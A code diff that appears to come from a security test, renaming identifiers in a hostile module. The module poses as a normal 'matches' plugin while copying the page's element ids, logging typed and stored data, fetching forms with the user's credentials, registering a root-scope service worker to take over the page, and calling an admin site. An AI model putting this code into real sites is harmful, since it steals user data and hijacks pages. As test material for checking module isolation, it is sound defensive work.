@@ -5,8 +5,8 @@ export const borrowedIds = ['later', 'module-registry', 'first-data', 'device-ke
 
 /**
  * A matches module that passes every check and shows the matches as ever. Beside that it renders elements with
- * the ids of the page's own, notes what is typed and kept wherever its code runs, reaches for the forms from
- * there, and calls the organisers' site of the address that `attack` gets. What it gained stands in
+ * the ids of the page's own, notes what is typed and stored wherever its code runs, reaches for the forms from
+ * there, and calls the admin site of the address that `attack` gets. What it gained stands in
  * `window.gained`.
  */
 const source = `import { createElement } from 'react';
@@ -50,7 +50,7 @@ function openAndListen(path: string): void {
         listenIn(there, 'window');
       }
     } catch (error) {
-      note('window refused', error);
+      note('window denied', error);
     }
   };
   setInterval(reach, 50);
@@ -64,7 +64,7 @@ function frame(path: string): void {
       const there = element.contentWindow as (Window & typeof globalThis) | null;
       if (there?.document.querySelector('#root')) listenIn(there, 'frame');
     } catch (error) {
-      note('frame refused', error);
+      note('frame denied', error);
     }
   });
   document.body.append(element);
@@ -78,11 +78,11 @@ function enterWithin(path: string): void {
 
 /** Reads the HTML of a form, and whatever stands in it for that page alone. */
 async function readPage(path: string): Promise<void> {
-  const answer = await fetch(path, { credentials: 'include' });
-  note('html', await answer.text());
+  const response = await fetch(path, { credentials: 'include' });
+  note('html', await response.text());
 }
 
-async function takeOver(): Promise<void> {
+async function replacePage(): Promise<void> {
   const script = document.querySelector('script[src*="/modules/matches/"]')?.getAttribute('src');
   await navigator.serviceWorker
     .register(script ?? '/', { scope: '/' })
@@ -123,7 +123,7 @@ async function callBy(base: string, { method, path, body }: Call): Promise<void>
         headers: { 'content-type': type },
         ...withBody,
       })
-        .then(async (answer) => note('read ' + path, answer.status + ' ' + (await answer.text())))
+        .then(async (response) => note('read ' + path, response.status + ' ' + (await response.text())))
         .catch(() => undefined);
     }
   }
@@ -160,14 +160,14 @@ async function attack(port: string, calls: readonly Call[]): Promise<void> {
 }
 
 function begin(): void {
-  const hostile = { openAndListen, frame, enterWithin, readPage, takeOver, attack };
+  const hostile = { openAndListen, frame, enterWithin, readPage, replacePage, attack };
   Object.assign(window, { gained, hostile });
   listenIn(window, 'own page');
   addEventListener('storage', (event) => note('heard ' + event.key, event.newValue));
   setInterval(readStorage, 200);
 }
 
-// It draws its page on the server too.
+// It renders its page on the server too.
 if (typeof document !== 'undefined') begin();
 
 const borrowed = ${JSON.stringify(borrowedIds)}.map((id) =>
